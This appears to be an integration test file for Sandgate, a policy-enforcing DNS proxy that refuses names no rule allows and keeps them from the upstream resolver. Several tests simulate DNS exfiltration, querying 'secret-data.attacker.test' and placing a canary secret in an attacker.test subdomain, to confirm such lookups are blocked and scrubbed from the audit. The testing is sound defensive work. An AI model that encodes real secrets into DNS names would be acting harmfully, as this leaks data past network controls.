"""The policy DNS (`sandgate run --dns`) with real clients (dig, glibc's getaddrinfo) and a
recording upstream resolver: a name no rule reaches is refused and never leaves Sandgate."""

from __future__ import annotations

import socket
import subprocess
import sys
import textwrap
import time
from collections.abc import Iterator
from pathlib import Path

import dns.message
import dns.query
import dns.rcode
import dns.rdatatype
import pytest

from sandgate.confdir import token_key
from sandgate.explain.answer import explain_name
from sandgate.policy.loader import load_policy_dir
from sandgate.tokens import canary
from tests.integration.conftest import HERE, SANDGATE, Proxy, start_proxy, stop_proxy
from tests.support.dnsrecorder import RecordingResolver

pytestmark = pytest.mark.integration

DNS = "127.0.65.1"  # the policy DNS of the policies_dns proxy
DNS_REPO = "127.0.65.2"  # the policy DNS of the proxy on the repository's policies/
UPSTREAM = "127.0.65.53"  # the recording resolver
AGENT, BASH, FLOOD, STRANGER = "127.0.65.10", "127.0.65.11", "127.0.65.12", "127.0.65.99"
REPO_SOURCES = {"coding-agent": "127.0.65.20", "bash-tool": "127.0.65.21",
                "web-fetch": "127.0.65.22"}

ZONE = {
    "api.allowed.test": {"A": ["5.6.7.8"], "AAAA": ["2606:4700::6810:1"]},
    "x.cdn.allowed.test": {"A": ["5.6.7.9"]},
    "blocked.cdn.allowed.test": {"A": ["5.6.7.10"]},
    "alias.allowed.test": {"CNAME": ["real.elsewhere.test"]},
    "real.elsewhere.test": {"A": ["5.6.7.11"]},
    "halfalias.allowed.test": {"CNAME": ["far.elsewhere.test"]},
    "far.elsewhere.test": {"A": ["5.6.7.12"]},
    "txt.allowed.test": {"TXT": ['"hello from the zone"'], "A": ["5.6.7.14"]},
    "pypi.allowed.test": {"A": ["5.6.7.13"]},
    "inside.allowed.test": {"A": ["10.1.2.3"]},
    "secret-data.attacker.test": {"A": ["6.6.6.6"], "TXT": ['"exfil"']},
}


@pytest.fixture(scope="module")
def recorder() -> Iterator[RecordingResolver]:
    r = RecordingResolver(UPSTREAM, 53, ZONE, partial=frozenset({"halfalias.allowed.test"}),
                          default="5.6.7.99")
    yield r
    r.close()


@pytest.fixture(scope="module")
def dns_proxy(tmp_path_factory, vault, pki, recorder) -> Iterator[Proxy]:
    p = start_proxy(tmp_path_factory.mktemp("dns"), HERE / "policies_dns",
                    {"VAULT_ADDR": vault.addr, "VAULT_TOKEN": vault.root_token}, pki,
                    "--dns", f"{DNS}:53", "--dns-upstream", f"{UPSTREAM}:53",
                    "--identity-cidr", f"{AGENT}/32=agent",
                    "--identity-cidr", f"{FLOOD}/32=agent",
                    "--identity-cidr", "127.0.0.1/32=agent",  # glibc's queries come from here
                    "--identity-cidr", f"{BASH}/32=bash-tool/sbx-bash", "--canary")
    yield p
    stop_proxy(p)


def ask(name: str, rdtype: str = "A", source: str = AGENT, server: str = DNS,
        tcp: bool = False) -> dns.message.Message:
    q = dns.message.make_query(name, rdtype)
    if tcp:
        return dns.query.tcp(q, server, timeout=5, source=source)
    return dns.query.udp(q, server, timeout=5, source=source)


def dig(*args: str, source: str = AGENT) -> str:
    r = subprocess.run(["dig", f"@{DNS}", "-b", source, "+tries=1", "+time=5", *args],
                       capture_output=True, text=True, timeout=30)
    assert r.returncode == 0, r.stderr + r.stdout
    return r.stdout


def test_denied_name_is_refused_audited_and_never_asked_upstream(dns_proxy, recorder):
    out = dig("secret-data.attacker.test", "A")
    assert "status: NXDOMAIN" in out
    out = dig("secret-data.attacker.test", "TXT")
    assert "status: NXDOMAIN" in out
    assert "secret-data.attacker.test" not in recorder.names()
    ev = dns_proxy.wait_audit(lambda e: e.get("event") == "dns" and e.get("qtype") == "A"
                              and e.get("host") == "secret-data.attacker.test")
    assert ev["identity"] == "agent" and ev["client"] == AGENT and ev["decision"] == "deny"
    assert ev["code"] == "no_rule" and "could reach" in ev["reason"]


def test_a_secret_value_in_a_name_is_scrubbed_from_the_audit(dns_proxy, recorder):
    """A sandbox that holds a value (here the identity's canary, which --canary adds to what
    is scrubbed) and puts it in a name: refused, never asked upstream, and not in the audit."""
    value = canary(token_key(dns_proxy.confdir), "agent")
    name = f"{value}.attacker.test"
    assert ask(name).rcode() == dns.rcode.NXDOMAIN
    ev = dns_proxy.wait_audit(lambda e: e.get("event") == "dns"
                              and str(e.get("host", "")).endswith(".attacker.test")
                              and "secret-data" not in str(e.get("host")))
    assert ev["decision"] == "deny"
    assert value not in dns_proxy.audit_file.read_text()
    assert name not in recorder.names()


def test_allowed_name_is_resolved_upstream_and_answered_bounded(dns_proxy, recorder):
    out = dig("+noall", "+answer", "api.allowed.test", "A")
    fields = out.split()
    assert fields[0] == "api.allowed.test." and fields[-1] == "5.6.7.8"
    assert int(fields[1]) <= 60  # the upstream said 300: bounded by --dns-max-ttl
    assert ("api.allowed.test", "A") in recorder.seen
    aaaa = ask("api.allowed.test", "AAAA")
    assert [r.to_text() for rr in aaaa.answer for r in rr] == ["2606:4700::6810:1"]
    ev = dns_proxy.wait_audit(lambda e: e.get("event") == "dns"
                              and e.get("host") == "api.allowed.test")
    assert ev["decision"] == "allow" and ev["rule"] == "api" and ev["answers"] == 1


def test_deny_rule_wins_and_wildcards_match(dns_proxy, recorder):
    assert ask("x.cdn.allowed.test").rcode() == dns.rcode.NOERROR
    assert ask("blocked.cdn.allowed.test").rcode() == dns.rcode.NXDOMAIN
    assert "blocked.cdn.allowed.test" not in recorder.names()


def test_other_types_refused_unless_a_rule_lists_them(dns_proxy, recorder):
    r = ask("txt.allowed.test", "TXT")
    assert r.rcode() == dns.rcode.NOERROR
    assert [x.to_text() for rr in r.answer for x in rr] == ['"hello from the zone"']
    recorder.clear()
    for rdtype in ("TXT", "ANY", "MX", "NULL", "SRV"):
        r = ask("api.allowed.test", rdtype)
        # the name exists for A/AAAA: REFUSED, never NXDOMAIN (that would be cached for A)
        assert r.rcode() == dns.rcode.REFUSED, rdtype
    assert "api.allowed.test" not in recorder.names()


def test_cname_chains_are_followed_by_sandgate(dns_proxy, recorder):
    r = ask("alias.allowed.test")
    assert r.rcode() == dns.rcode.NOERROR
    assert [(rr.name.to_text(), dns.rdatatype.to_text(rr.rdtype)) for rr in r.answer] == \
        [("alias.allowed.test.", "A")]
    assert [x.to_text() for x in r.answer[0]] == ["5.6.7.11"]
    # a chain the upstream answers in two steps: Sandgate asks for the target itself
    r = ask("halfalias.allowed.test")
    assert [(rr.name.to_text(), [x.to_text() for x in rr]) for rr in r.answer] == \
        [("halfalias.allowed.test.", ["5.6.7.12"])]
    assert ("far.elsewhere.test", "A") in recorder.seen


def test_only_dialable_addresses_are_answered(dns_proxy):
    r = ask("inside.allowed.test")  # 10.1.2.3 and the rule names no private_cidrs
    assert r.rcode() == dns.rcode.NOERROR and r.answer == []


def test_identity_comes_from_the_source_address(dns_proxy, recorder):
    assert ask("pypi.allowed.test", source=BASH).rcode() == dns.rcode.NOERROR
    assert ask("pypi.allowed.test", source=AGENT).rcode() == dns.rcode.NXDOMAIN
    recorder.clear()
    assert ask("api.allowed.test", source=BASH).rcode() == dns.rcode.NXDOMAIN
    assert "api.allowed.test" not in recorder.names()
    assert ask("api.allowed.test", source=STRANGER).rcode() == dns.rcode.REFUSED
    ev = dns_proxy.wait_audit(lambda e: e.get("event") == "dns" and e.get("client") == BASH
                              and e.get("host") == "pypi.allowed.test")
    assert ev["identity"] == "bash-tool" and ev["sandbox"] == "sbx-bash"
    ev = dns_proxy.wait_audit(lambda e: e.get("event") == "dns" and e.get("client") == STRANGER)
    assert ev["identity"] is None and ev["code"] == "auth_invalid"


def test_tcp_queries(dns_proxy):
    out = dig("+tcp", "+short", "api.allowed.test")
    assert out.split() == ["5.6.7.8"]
    assert ask("secret-data.attacker.test", tcp=True).rcode() == dns.rcode.NXDOMAIN


def test_rate_limit_per_source(dns_proxy):
    refused = 0
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.bind((FLOOD, 0))
        s.settimeout(5)
        for i in range(300):  # burst 100, 50/s: most of these are over the rate
            s.sendto(dns.message.make_query("api.allowed.test", "A", id=i).to_wire(),
                     (DNS, 53))
            r = dns.message.from_wire(s.recv(4096))
            refused += r.rcode() == dns.rcode.REFUSED
    assert refused >= 100
    # another source is not starved by this one
    assert ask("api.allowed.test", source=AGENT).rcode() == dns.rcode.NOERROR


def test_malformed_packets_get_formerr_and_the_server_lives_on(dns_proxy):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.bind((AGENT, 0))
        s.settimeout(2)
        s.sendto(b"\x12\x34" + b"\x01\x00" + b"\x00\x05" + b"\x00" * 6 + b"\xff" * 20,
                 (DNS, 53))
        r = s.recv(4096)
        assert r[:2] == b"\x12\x34" and r[3] & 0x0F == dns.rcode.FORMERR
        s.sendto(b"\x00" * 3, (DNS, 53))  # no header: no answer
        s.sendto(b"\x12\x35" + b"\x00" * 10 + b"x" * 1000, (DNS, 53))  # oversized
        r = s.recv(4096)
        assert r[:2] == b"\x12\x35" and r[3] & 0x0F == dns.rcode.FORMERR
    assert ask("api.allowed.test").rcode() == dns.rcode.NOERROR


def test_getaddrinfo_through_resolv_conf(dns_proxy, recorder, tmp_path):
    """glibc's resolver, as a sandbox's programs use it: resolv.conf names the policy DNS."""
    conf = tmp_path / "resolv.conf"
    conf.write_text(f"nameserver {DNS}\noptions attempts:1 timeout:3\n")
    script = textwrap.dedent("""
        import socket, sys
        ok = sorted({a[4][0] for a in socket.getaddrinfo("api.allowed.test", 443)})
        print(" ".join(ok))
        try:
            socket.getaddrinfo("secret-data.attacker.test", 443)
            print("resolved")
        except socket.gaierror as e:
            print("refused", e.errno == socket.EAI_NONAME)
    """)
    r = subprocess.run(["unshare", "-m", "sh", "-c",
                        f"mount --bind {conf} /etc/resolv.conf && exec {sys.executable} -c "
                        f"'{script}'"], capture_output=True, text=True, timeout=60)
    assert r.returncode == 0, r.stderr
    first, second = r.stdout.splitlines()
    assert first.split() == ["2606:4700::6810:1", "5.6.7.8"]
    assert second == "refused True"
    assert "secret-data.attacker.test" not in recorder.names()


# --- explain --dns agrees with the server ----------------------------------------------------

REPO_POLICIES = HERE.parent.parent / "policies"


@pytest.fixture(scope="module")
def repo_proxy(tmp_path_factory, vault, pki, recorder) -> Iterator[Proxy]:
    cidrs = [a for ident, ip in REPO_SOURCES.items()
             for a in ("--identity-cidr", f"{ip}/32={ident}")]
    p = start_proxy(tmp_path_factory.mktemp("dnsrepo"), REPO_POLICIES,
                    {"VAULT_ADDR": vault.addr, "VAULT_TOKEN": vault.root_token}, pki,
                    "--dns", f"{DNS_REPO}:53", "--dns-upstream", f"{UPSTREAM}:53", *cidrs)
    yield p
    stop_proxy(p)


def _names(policy_dir: Path) -> list[str]:
    """Every host a rule names, a name under each wildcard and its apex, near misses."""
    policy = load_policy_dir(policy_dir)
    out: set[str] = {"secret-data.attacker.test", "example.com", "pypi.org.evil.example"}
    for ident in policy.identities.values():
        for rule in ident.rules:
            for p in rule.hosts:
                if p.wildcard and p.suffix:
                    out |= {"a" + p.suffix, "a.b" + p.suffix, p.suffix[1:]}
                elif not p.wildcard:
                    out |= {p.suffix, "x." + p.suffix, p.suffix + ".evil.example"}
    return sorted(n for n in out if not n[-1].isdigit())


@pytest.mark.parametrize("policy_dir,server,sources", [
    (HERE / "policies_dns", DNS, {"agent": AGENT, "bash-tool": BASH}),
    (REPO_POLICIES, DNS_REPO, REPO_SOURCES),
], ids=["policies_dns", "policies"])
def test_explain_agrees_with_the_server(request, policy_dir, server, sources, recorder):
    request.getfixturevalue("dns_proxy" if server == DNS else "repo_proxy")
    policy = load_policy_dir(policy_dir)
    assert set(sources) == set(policy.identities)
    compared = 0
    classes: set[bool] = set()
    for ident, source in sources.items():
        for name in _names(policy_dir):
            for rdtype in ("A", "AAAA", "TXT"):
                got = ask(name, rdtype, source=source, server=server)
                expected, resolves = explain_name(policy, ident, name, rdtype)
                answered = got.rcode() == dns.rcode.NOERROR
                assert answered == resolves, (ident, name, rdtype, expected["reason"],
                                              dns.rcode.to_text(got.rcode()))
                compared += 1
                classes.add(answered)
            time.sleep(0.01)  # stay under the per-source rate
    assert compared > 50 and classes == {True, False}


def test_explain_cli_says_what_the_server_does(dns_proxy):
    for name, rdtype, want in [("txt.allowed.test", "TXT", 0), ("api.allowed.test", "TXT", 1),
                               ("pypi.allowed.test", "A", 1)]:
        r = subprocess.run([*SANDGATE, "explain", "--policies", str(HERE / "policies_dns"),
                            "--identity", "agent", "--dns", name, "--type", rdtype],
                           capture_output=True, text=True, timeout=60)
        assert r.returncode == want, r.stdout + r.stderr
        server = ask(name, rdtype).rcode() == dns.rcode.NOERROR
        assert server == (want == 0)
